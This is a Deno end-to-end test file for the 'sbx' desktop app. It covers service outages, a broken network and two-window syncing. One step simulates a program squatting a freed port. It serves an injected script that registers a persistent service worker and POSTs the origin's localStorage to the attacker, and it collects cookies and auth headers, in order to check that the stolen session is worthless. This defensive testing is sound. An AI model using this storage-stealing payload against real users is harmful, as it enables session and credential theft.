/** A service and a gateway that end and come back, a network that breaks, and two windows. */
import { assertEquals, assertMatch, assertNotEquals } from "@std/assert";
import { BadNetwork } from "../helper/bad_network.ts";
import type { DesktopWorld } from "./desktop_world.ts";

/** `ms` that each packet of a slow network takes. */
const SLOW_MS = 150;

/**
 * The page of a program that took the port: it reads the storage of the origin, and
 * stays as a worker and in the cache.
 */
const STOLEN = `globalThis.stolen = 1;
navigator.serviceWorker.register("/worker.js", { scope: "/" })
  .then(() => navigator.serviceWorker.ready)
  .then(() => fetch("/stolen", { method: "POST", body: JSON.stringify(localStorage) }));`;

/** Another user's program on the port of a gateway that has ended. */
class Thief {
  readonly #requests: { path: string; headers: Headers }[] = [];
  readonly #storage = Promise.withResolvers<string>();
  readonly #server: Deno.HttpServer;

  constructor(port: number) {
    this.#server = Deno.serve(
      { hostname: "127.0.0.1", port, onListen() {} },
      (request) => this.#answer(request),
    );
  }

  /** JSON of the origin's storage, once its page has sent it. */
  get hasStorage(): Promise<string> {
    return this.#storage.promise;
  }

  paths(): string[] {
    return [...new Set(this.#requests.map(({ path }) => path))];
  }

  /** Cookies, keys and subprotocols that requests had. */
  secrets(): string[] {
    return this.#requests.flatMap(({ headers }) =>
      ["cookie", "x-sbx-desktop", "sec-websocket-protocol", "authorization"].flatMap((name) =>
        headers.get(name) ?? []
      )
    );
  }

  close(): Promise<void> {
    return this.#server.shutdown();
  }

  async #answer(request: Request): Promise<Response> {
    const path = new URL(request.url).pathname;
    this.#requests.push({ path, headers: request.headers });
    if (path === "/stolen") this.#storage.resolve(await request.text());
    const headers = { "cache-control": "max-age=31536000, immutable", "service-worker-allowed": "/" };
    if (path === "/desktop/") {
      const page = '<script src="/desktop/main.js"></script>';
      return new Response(page, { headers: { ...headers, "content-type": "text/html" } });
    }
    if (path.endsWith(".js")) {
      const script = path === "/worker.js"
        ? "addEventListener('fetch', (e) => e.respondWith(new Response('mine')))"
        : STOLEN;
      return new Response(script, { headers: { ...headers, "content-type": "text/javascript" } });
    }
    return Response.json({ signature: btoa("x".repeat(64)), vms: [], asks: [] }, { headers });
  }
}

export async function outageSteps(t: Deno.TestContext, { sbx, desktop }: DesktopWorld): Promise<void> {
  const { page, context } = desktop;
  const away = page.getByText("sbx isn't running");
  const running = page.getByRole("row", { name: /desk/ }).getByText("Running");

  await t.step("the service is killed and comes back, and so does the page", async () => {
    await desktop.open("sessions");
    Deno.kill(sbx.pid("service"), "SIGKILL");
    await away.waitFor();
    await sbx.ok("start");
    await away.waitFor({ state: "detached" });
    await running.waitFor();
  });

  await t.step(
    "another program with the port gets nothing from an open tab, and nothing from a reload that opens the next gateway",
    async () => {
      const { base, token } = sbx;
      const { origin } = desktop;
      const port = Number(new URL(base).port);
      const reloaded = await context.newPage();
      await reloaded.goto(`${origin}/desktop/`);
      await reloaded.getByRole("row", { name: /desk/ }).waitFor();
      Deno.kill(sbx.pid("gateway"), "SIGTERM");
      await away.waitFor();
      await reloaded.getByText("sbx isn't running").waitFor();

      const thief = new Thief(port);
      await page.getByText("is not the sbx that this browser signed in to").waitFor();
      await reloaded.getByText("is not the sbx that this browser signed in to").waitFor();
      assertEquals(thief.paths(), ["/desktop/proof"]);
      assertEquals(thief.secrets(), []);
      await reloaded.reload();
      await thief.hasStorage;
      const [cookie] = thief.secrets();
      assertMatch(cookie, /^sbx-desktop-\d+=\w{64}$/, "so the session must be worth nothing");
      await reloaded.close();
      await thief.close();

      await sbx.ok("start", "--port", String(port));
      assertEquals([sbx.base === base, sbx.token === token], [true, false]);
      const key = JSON.parse(await thief.hasStorage)["sbx-key"];
      assertMatch(key, /^\w{64}$/);
      const replayed: Record<string, string>[] = [{ cookie, "x-sbx-desktop": key }, { cookie }];
      for (const headers of replayed) {
        const answer = await fetch(`${base}/vms/list`, { headers: { ...headers, origin: base } });
        assertEquals(Math.floor(answer.status / 100), 4);
        await answer.body?.cancel();
      }
      // The old origin stays the thief's, whoever has its port: no other gateway has that origin.
      await page.reload();
      await page.getByText("mine", { exact: true }).waitFor();
      await desktop.signIn(sbx);
      assertNotEquals(desktop.origin, origin);
      assertEquals(await page.evaluate("navigator.serviceWorker.controller"), null);
      assertEquals(await page.evaluate("globalThis.stolen"), undefined);
      await running.waitFor();
      desktop.origins.clear();
    },
  );

  await t.step(
    "on a slow network that breaks, the page says so, comes back, and knows what it missed",
    async () => {
      await using network = new BadNetwork(Number(new URL(sbx.base).port));
      const other = await desktop.newContext();
      const far = await other.newPage();
      network.delay = SLOW_MS;
      const url = (await sbx.ok("desktop", "--print-url")).trim();
      await far.goto(url.replace(/:\d+\//, `:${network.port}/`));
      await far.getByRole("link", { name: "VMs", exact: true }).click();
      const row = far.getByRole("row", { name: /desk/ });
      await row.getByText("Running").waitFor();
      network.cut();
      await far.getByText("sbx isn't running").waitFor();
      await far.getByRole("button", { name: "Pause desk" }).click();
      await far.locator(".notice").getByText("sbx does not answer").waitFor();
      await sbx.ok("pause", "desk");
      network.mend();
      await row.getByText("Paused").waitFor();
      await far.getByText("sbx isn't running").waitFor({ state: "detached" });
      await far.getByRole("button", { name: "Resume desk" }).click();
      await row.getByText("Running").waitFor();
      await other.close();
    },
  );

  await t.step("two windows show the same; one that has not signed in shows nothing", async () => {
    const second = await context.newPage();
    await second.goto(`${desktop.origin}/desktop/#/sessions`);
    await second.getByRole("row", { name: /desk/ }).getByText("Running").waitFor();
    await second.getByRole("button", { name: "Pause desk" }).click();
    await desktop.open("sessions");
    await page.getByRole("row", { name: /desk/ }).getByText("Paused").waitFor();
    await page.getByRole("button", { name: "Resume desk" }).click();
    await second.getByRole("row", { name: /desk/ }).getByText("Running").waitFor();
    await second.close();
  });
}
